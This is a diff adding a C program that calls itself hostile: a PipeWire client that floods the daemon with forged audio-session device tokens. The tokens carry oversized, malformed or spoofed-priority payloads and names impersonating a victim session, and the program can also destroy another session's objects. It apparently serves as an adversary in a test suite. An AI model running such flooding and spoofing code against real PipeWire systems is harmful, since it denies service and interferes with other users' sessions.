@@ -1,0 +1,231 @@
+/* session-flood REMOTE FILE churn SECONDS UUID
+ * session-flood REMOTE FILE huge SECONDS UUID
+ * session-flood REMOTE FILE hold COUNT UUID
+ * session-flood REMOTE FILE destroy COUNT UUID
+ *
+ * A hostile program. Makes and destroys forged tokens as fast as PipeWire takes them, some of them of 100 kB; or makes so many and keeps them
+ * until it is ended; or destroys the tokens of a session, whosever they are, so many times. Makes the file once it has
+ * begun (`churn`, `huge`, `destroy`) or has made them all (`hold`), and prints how many there were. */
+#include <fcntl.h>
+#include <inttypes.h>
+#include <pipewire/pipewire.h>
+#include <spa/monitor/device.h>
+#include <spa/monitor/utils.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+enum { batch = 64, huge = 100000 };
+
+struct flood {
+    struct pw_loop *loop;
+    struct pw_core *core;
+    struct pw_registry *registry;
+    const char *victim;
+    int done;
+    uint64_t made;
+    uint64_t left; /* to be destroyed */
+};
+
+/* A device without anything. The daemon keeps its properties. */
+static struct spa_hook_list nobody;
+
+static int add_listener(void *object, struct spa_hook *listener, const struct spa_device_events *events, void *data) {
+    (void)object;
+    struct spa_device_info info = SPA_DEVICE_INFO_INIT();
+    struct spa_hook_list others;
+    spa_hook_list_isolate(&nobody, &others, listener, events, data);
+    spa_device_emit_info(&nobody, &info);
+    spa_hook_list_join(&nobody, &others);
+    return 0;
+}
+
+static int synchronise(void *object, int sequence) {
+    (void)object;
+    spa_device_emit_result(&nobody, sequence, 0, 0, NULL);
+    return 0;
+}
+
+static int no_params(void *object, int sequence, uint32_t id, uint32_t start, uint32_t max,
+                     const struct spa_pod *filter) {
+    (void)object, (void)sequence, (void)id, (void)start, (void)max, (void)filter;
+    return -ENOENT;
+}
+
+static int no_param(void *object, uint32_t id, uint32_t flags, const struct spa_pod *pod) {
+    (void)object, (void)id, (void)flags, (void)pod;
+    return -ENOENT;
+}
+
+static const struct spa_device_methods methods = {
+    SPA_VERSION_DEVICE_METHODS,
+    .add_listener = add_listener,
+    .sync = synchronise,
+    .enum_params = no_params,
+    .set_param = no_param,
+};
+
+static struct spa_device device;
+
+static const char *long_text(void) {
+    static char text[huge + 1];
+    memset(text, 'x', huge);
+    return text;
+}
+
+/* What somebody might write who wants to be believed, or to do harm. */
+static const char *payload(uint64_t number, bool is_huge) {
+    switch (number % 9) {
+    case 0: return "1;state=standing;priority=emergency";
+    case 1: return "1;state=standing;priority=god";
+    case 2: return is_huge ? long_text() : "1;state=standing;priority=alarm;group=%2";
+    case 3: return "1;state=standing;priority=\xff\xfe\xc3";
+    case 4: return "7;state=elsewhere;priority=7";
+    case 5: return "1;state=released-notify;priority=media";
+    case 6: return "1;state=standing;priority=media;place=1:0:1";
+    case 7: return "";
+    default: return "1;state=standing;priority=communication;captures;notifies";
+    }
+}
+
+static struct pw_proxy *forge(struct flood *flood, const char *text, bool is_wild) {
+    char name[80];
+    uint64_t number = flood->made++;
+    if (number == 1 || (is_wild && number % 4 == 1))
+        snprintf(name, sizeof(name), "audio-session.%s.%" PRIu32, flood->victim, (uint32_t)number);
+    else if (is_wild && number % 32 == 2)
+        snprintf(name, sizeof(name), "audio-session.nobody.%" PRIu64, number);
+    else
+        snprintf(name, sizeof(name), "audio-session.%08x-%04x-4000-8000-%012" PRIx64 ".1", (unsigned)getpid(), 7u,
+                 number);
+    struct spa_dict_item items[] = {
+        SPA_DICT_ITEM_INIT(PW_KEY_DEVICE_NAME, name),
+        SPA_DICT_ITEM_INIT(PW_KEY_DEVICE_API, "audio-session"),
+        SPA_DICT_ITEM_INIT(PW_KEY_DEVICE_DESCRIPTION, text),
+    };
+    struct spa_dict dict = SPA_DICT_INIT_ARRAY(items);
+    return pw_core_export(flood->core, SPA_TYPE_INTERFACE_Device, &dict, &device, 0);
+}
+
+static void on_done(void *data, uint32_t id, int sequence) {
+    struct flood *flood = data;
+    if (id == PW_ID_CORE)
+        flood->done = sequence;
+}
+
+static void on_error(void *data, uint32_t id, int sequence, int result, const char *message) {
+    (void)data, (void)sequence;
+    if (id != PW_ID_CORE || result != -EPIPE)
+        return;
+    fprintf(stderr, "session-flood: %s\n", message);
+    exit(1);
+}
+
+static const struct pw_core_events core_events = {PW_VERSION_CORE_EVENTS, .done = on_done, .error = on_error};
+
+static void catch_up(struct flood *flood) {
+    int wanted = pw_core_sync(flood->core, PW_ID_CORE, 0);
+    while (flood->done != wanted)
+        pw_loop_iterate(flood->loop, -1);
+}
+
+static void announce(const char *file) {
+    int made = open(file, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
+    if (made >= 0)
+        close(made);
+}
+
+static double now(void) {
+    struct timespec time;
+    clock_gettime(CLOCK_MONOTONIC, &time);
+    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
+}
+
+static void churn(struct flood *flood, double seconds, const char *file, bool is_huge) {
+    struct pw_proxy *proxies[batch];
+    double start = now();
+    while (now() - start < seconds) {
+        for (int i = 0; i < batch; i++)
+            proxies[i] = forge(flood, payload(flood->made, is_huge), true);
+        pw_loop_iterate(flood->loop, 0);
+        for (int i = 0; i < batch; i++)
+            if (proxies[i] != NULL)
+                pw_proxy_destroy(proxies[i]);
+        catch_up(flood);
+        if (flood->made == batch)
+            announce(file);
+    }
+    printf("%" PRIu64 " tokens, %.0f a second\n", flood->made, (double)flood->made / (now() - start));
+}
+
+static void hold(struct flood *flood, uint64_t count, const char *file) {
+    while (flood->made < count) {
+        forge(flood, "1;state=standing;priority=media;mixes", false);
+        if (flood->made % batch == 0)
+            catch_up(flood);
+    }
+    catch_up(flood);
+    announce(file);
+    for (;;)
+        pw_loop_iterate(flood->loop, -1);
+}
+
+static void on_global(void *data, uint32_t id, uint32_t permissions, const char *type, uint32_t version,
+                      const struct spa_dict *properties) {
+    (void)permissions, (void)type, (void)version;
+    struct flood *flood = data;
+    const char *name = properties ? spa_dict_lookup(properties, PW_KEY_DEVICE_NAME) : NULL;
+    if (flood->left == 0 || name == NULL || strstr(name, flood->victim) == NULL)
+        return;
+    pw_registry_destroy(flood->registry, id);
+    flood->left--;
+}
+
+static const struct pw_registry_events registry_events = {PW_VERSION_REGISTRY_EVENTS, .global = on_global};
+
+static void destroy(struct flood *flood, uint64_t count, const char *file) {
+    struct spa_hook listener;
+    flood->left = count;
+    flood->registry = pw_core_get_registry(flood->core, PW_VERSION_REGISTRY, 0);
+    pw_registry_add_listener(flood->registry, &listener, &registry_events, flood);
+    announce(file);
+    while (flood->left > 0)
+        pw_loop_iterate(flood->loop, -1);
+    catch_up(flood);
+    printf("%" PRIu64 " tokens destroyed\n", count);
+}
+
+int main(int count, char **words) {
+    if (count != 6) {
+        fprintf(stderr, "session-flood REMOTE FILE churn|huge|hold|destroy NUMBER UUID\n");
+        return 64;
+    }
+    pw_init(NULL, NULL);
+    spa_hook_list_init(&nobody);
+    device.iface = SPA_INTERFACE_INIT(SPA_TYPE_INTERFACE_Device, SPA_VERSION_DEVICE, &methods, NULL);
+    struct flood flood = {.victim = words[5]};
+    struct pw_properties *properties =
+        pw_properties_new(PW_KEY_REMOTE_NAME, words[1], PW_KEY_APP_NAME, "Flood", NULL);
+    flood.loop = pw_loop_new(NULL);
+    struct pw_context *context = pw_context_new(flood.loop, NULL, 0);
+    pw_loop_enter(flood.loop);
+    flood.core = pw_context_connect(context, properties, 0);
+    if (flood.core == NULL) {
+        fprintf(stderr, "session-flood: no PipeWire at %s\n", words[1]);
+        return 1;
+    }
+    struct spa_hook listener;
+    pw_core_add_listener(flood.core, &listener, &core_events, &flood);
+    catch_up(&flood);
+    if (strcmp(words[3], "churn") == 0)
+        churn(&flood, atof(words[4]), words[2], false);
+    else if (strcmp(words[3], "huge") == 0)
+        churn(&flood, atof(words[4]), words[2], true);
+    else if (strcmp(words[3], "hold") == 0)
+        hold(&flood, strtoull(words[4], NULL, 10), words[2]);
+    else
+        destroy(&flood, strtoull(words[4], NULL, 10), words[2]);
+    return 0;
+}
